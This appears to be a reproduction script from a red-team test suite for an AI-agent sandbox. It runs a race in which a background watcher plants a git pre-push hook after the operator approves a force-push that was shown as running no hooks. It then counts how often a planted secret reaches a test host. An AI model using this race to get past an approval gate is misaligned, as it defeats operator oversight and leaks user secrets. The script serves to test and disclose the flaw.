#!/usr/bin/env bash
# Reproduction of R3 (the binding of git hooks can be raced): N runs, each
# in a fresh scenario with Landlock and the network allowlist. Needs the
# test host of harness/testhost.sh. Prints how many runs sent the secret.
# Every run: the agent's force-push is held ("git hooks it runs: none"),
# the operator approves, a green command starts a watcher in the
# background, the agent runs the push again; the watcher plants
# .git/hooks/pre-push the moment the gate logs "run".
set -u
R=$(cd "$(dirname "$0")/.." && pwd)
H=$R/harness
P=$R/payloads
N=${1:-5}
ok=0
for i in $(seq 1 "$N"); do
	n=race-hook-$i
	"$H/setup.sh" "$n" landlock net >/dev/null
	S=/var/tmp/rt/s/$n
	printf 'TOP-SECRET-%s\n' "$n" >"$S/home/secret.txt"
	cp "$P/303-hook-race-watcher.py" "$S/proj/"
	"$H/run.sh" "$n" "$P/303-push-force.sh" >/dev/null 2>&1
	id=$("$H/op.sh" "$n" pending --json | jq -r '.[0].id')
	"$H/op.sh" "$n" show "$id" | grep -q 'git hooks it runs: none' || echo "run $i: show did not say none"
	"$H/op.sh" "$n" approve "$id" >/dev/null
	"$H/run.sh" "$n" "$P/303-hook-race-start.sh" >/dev/null 2>&1
	sleep 1
	before=$(grep -c "TOP-SECRET-$n" /var/tmp/rt/th/log)
	"$H/run.sh" "$n" "$P/303-push-force.sh" >/dev/null 2>&1
	sleep 1
	after=$(grep -c "TOP-SECRET-$n" /var/tmp/rt/th/log)
	if [ "$after" -gt "$before" ]; then
		ok=$((ok + 1))
		echo "run $i: the planted hook ran under the approval and sent the secret"
	else
		echo "run $i: nothing arrived"
	fi
done
echo "worked in $ok of $N runs"
